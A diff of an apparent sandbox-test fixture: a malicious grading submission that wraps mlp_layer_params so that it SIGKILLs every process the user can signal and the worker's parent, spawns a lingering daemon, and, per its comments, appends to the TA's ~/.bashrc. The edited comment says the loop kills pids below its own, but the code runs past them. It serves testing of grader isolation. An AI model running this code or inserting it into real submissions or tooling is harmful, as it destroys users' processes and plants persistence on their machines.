@@ -1,5 +1,5 @@
 # Attack (older kernels): on a TA's machine, where the grader is not root, the first call of
-# mlp_layer_params kills every process the user may signal (kill(-1), then each pid but its own and its threads':
+# mlp_layer_params kills every process the user may signal (kill(-1), then each pid below its own, one by one:
 # seccomp refuses kill(-1), not kill(pid)), then the worker's parent (its reaper),
 # leaves a daemon behind (two forks and a new session, sleeping past the grade, marked by its RLIMIT_RTTIME so
 # a test can find it) and appends to the TA's ~/.bashrc. On Linux before 6.12 Landlock cannot keep signals in;
@@ -8,7 +8,6 @@
 import os as _os
 import resource as _resource
 import signal as _signal
-import threading as _threading
 import time as _time
 
 _honest_mlp_layer_params = mlp_layer_params  # noqa: F821 - the solution's, above
@@ -32,9 +31,8 @@ def _daemon():
 
 
 def _every_pid():
-    own = {_os.getpid(), *(thread.native_id for thread in _threading.enumerate())}  # a thread's id names its process too
     for pid in range(2, _os.getpid() + 1000):
-        if pid not in own:
+        if pid != _os.getpid():
             try:
                 _os.kill(pid, _signal.SIGKILL)
             except OSError:
